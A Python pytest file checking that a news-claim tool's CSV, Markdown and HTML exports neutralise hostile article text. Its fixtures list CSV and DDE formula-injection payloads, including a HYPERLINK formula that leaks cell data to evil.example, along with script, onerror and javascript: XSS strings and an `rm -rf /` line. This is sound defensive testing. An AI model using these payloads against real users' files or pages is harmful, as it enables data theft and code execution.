"""Exports of hostile article text: no spreadsheet formula, no raw HTML, no Markdown syntax gets through."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from feeds import feed_db

from corroborate.cli import cli
from corroborate.export import render
from corroborate.records import Annotation
from corroborate.store import Store

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
HOSTILE_MD = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[click me](javascript:alert(1))",
    "![x](http://evil.example/track.png)",
    "`rm -rf /` and ```fence```",
    "# not a heading",
    "a | b | c",
    "&lt;script&gt; already escaped",
    "line one\nline two\r\n| new row |",
]


def report(labels: list[str], sources: list[str] | None = None) -> dict[str, Any]:
    """A report in the export's JSON shape, one cluster per label."""
    return {
        "summary": {
            "documents": 0,
            "claims": 0,
            "clusters": len(labels),
            "clusters_shown": len(labels),
            "documents_shown": 0,
        },
        "documents": [],
        "clusters": [
            {
                "id": f"c{i}",
                "status": "corroborated",
                "support": 2,
                "independent_support": 2,
                "label": label,
                "sources": sources or ["wire"],
                "claims": [],
                "conflicts": [],
                "numbers": [],
                "number_range": [],
                "dates": None,
                "review": None,
            }
            for i, label in enumerate(labels)
        ],
    }


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def table_cells(markdown: str) -> list[str]:
    """The label cells of the Markdown table rows (split on unescaped pipes)."""
    rows = [line for line in markdown.splitlines() if line.startswith("| ") and not line.startswith("| Claim")]
    return [_split_row(row)[0] for row in rows]


def _split_row(row: str) -> list[str]:
    cells, cell, escaped = [], "", False
    for ch in row.strip().strip("|"):
        if ch == "|" and not escaped:
            cells.append(cell.strip())
            cell = ""
        else:
            cell += ch
        escaped = ch == "\\" and not escaped
    return [*cells, cell.strip()]


@pytest.mark.parametrize("label", FORMULAS)
def test_csv_cell_starting_a_formula_is_quoted(label: str) -> None:
    [row] = csv_rows(render(report([label]), "csv"))
    assert row["label"] == "'" + label.replace("\r", "\n")


def test_csv_carriage_return_in_text_does_not_split_the_row() -> None:
    rows = csv_rows(render(report(["one\rtwo", "three\r\nfour"]), "csv"))
    assert [row["label"] for row in rows] == ["one\ntwo", "three\nfour"]


def test_csv_formula_in_a_source_is_quoted() -> None:
    row = csv_rows(render(report(["fine"], ["=cmd|'/C calc'!A0"]), "csv"))[0]
    assert row["sources"] == "'=cmd|'/C calc'!A0"


def test_csv_negative_number_text_is_quoted_but_our_counts_stay_numbers() -> None:
    row = csv_rows(render(report(["-3 people died"]), "csv"))[0]
    assert row["label"] == "'-3 people died"
    assert row["support"] == "2" and row["independent_support"] == "2"


def test_csv_plain_text_is_unchanged() -> None:
    row = csv_rows(render(report(["40 people were injured, police said"]), "csv"))[0]
    assert row["label"] == "40 people were injured, police said"


@pytest.mark.parametrize("label", HOSTILE_MD)
def test_markdown_cell_passes_no_html_or_markdown_syntax(label: str) -> None:
    md = render(report([label]), "md")
    [cell] = table_cells(md)
    assert "<" not in cell and ">" not in cell
    assert "](" not in cell.replace("\\](", "")
    for special in "`[]#|*_":
        assert special not in cell.replace("\\" + special, ""), special
    assert len(_split_row(md.splitlines()[-1])) == 8  # the row still has its eight columns


def test_markdown_escapes_entities_and_keeps_the_words() -> None:
    [cell] = table_cells(render(report(["Tom & Jerry <b>x</b> &lt;"]), "md"))
    assert cell == "Tom &amp; Jerry &lt;b&gt;x&lt;/b&gt; &amp;lt;"


def test_markdown_line_breaks_do_not_start_new_rows() -> None:
    md = render(report(["line one\nline two\r\n| new row |"]), "md")
    assert len(table_cells(md)) == 1


HOSTILE_JSONL = [
    {
        "id": "1",
        "source": '=HYPERLINK("http://evil.example")',
        "text": "The minister said on Monday that 40 people were injured in the blast at the harbour in Tripoli.",
    },
    {
        "id": "2",
        "source": "<script>alert(1)</script> [x](javascript:alert(1))",
        "text": "Police said on Monday that 40 people were hurt in the blast at the harbour in Tripoli.",
    },
    {
        "id": "3",
        "source": "@wire",
        "text": "Officials said that 7 <img src=x onerror=alert(1)> people died in the fire at "
        "[the depot](javascript:alert(1)).",
    },
]


@pytest.fixture(scope="module")
def hostile_export_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return feed_db(tmp_path_factory.mktemp("hostile-export"), HOSTILE_JSONL, db="hostile.db")


def test_jsonl_source_field_and_article_text_are_neutralised_in_csv(hostile_export_db: Path) -> None:
    result = CliRunner().invoke(cli, ["export", "--db", str(hostile_export_db), "--format", "csv"])
    rows = csv_rows(result.output)
    assert "'@wire" in {row["sources"] for row in rows}
    cells = [cell for row in rows for cell in row.values()]
    assert cells and not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_jsonl_source_field_and_article_text_are_escaped_in_markdown(hostile_export_db: Path) -> None:
    md = CliRunner().invoke(cli, ["export", "--db", str(hostile_export_db), "--format", "md"]).output
    assert "<script>" not in md and "<img" not in md and "[x](" not in md and "[the depot]" not in md
    assert "&lt;script&gt;alert(1)&lt;/script&gt; \\[x\\](javascript:alert(1))" in md
    assert "7 &lt;img src=x onerror=" in md and "\\[the depot\\]" in md


def test_json_export_keeps_the_hostile_text_exactly(hostile_export_db: Path) -> None:
    out = CliRunner().invoke(cli, ["export", "--db", str(hostile_export_db)]).output
    sources = {d["source"] for d in json.loads(out)["documents"]}
    assert {r["source"] for r in HOSTILE_JSONL} == sources


@pytest.mark.parametrize("extra", [(), ("--claims",)])
def test_jsonl_source_field_and_article_text_are_escaped_in_html(
    hostile_export_db: Path, extra: tuple[str, ...]
) -> None:
    page = CliRunner().invoke(cli, ["export", "--db", str(hostile_export_db), "--format", "html", *extra]).output
    assert "<script>alert" not in page and "<img" not in page and 'javascript:alert(1)">' not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page and "7 &lt;img src=x onerror=alert(1)&gt;" in page
    assert page.count("<script>") == 1  # the page's own sorting script, nothing from the articles


def test_csv_decision_reviewer_and_note_cells_are_neutralised(hostile_export_db: Path, tmp_path: Path) -> None:
    db = tmp_path / "h.db"
    db.write_bytes(hostile_export_db.read_bytes())
    store = Store(db)
    cluster = store.clusters()[0].id
    store.annotate(Annotation("cluster", cluster, "note", "=evil()", "@SUM(A1)", cluster_id=cluster))
    store.close()
    rows = csv_rows(CliRunner().invoke(cli, ["export", "--db", str(db), "--format", "csv", "--reviewed"]).output)
    assert [(r["reviewer"], r["note"]) for r in rows] == [("'=evil()", "'@SUM(A1)")]
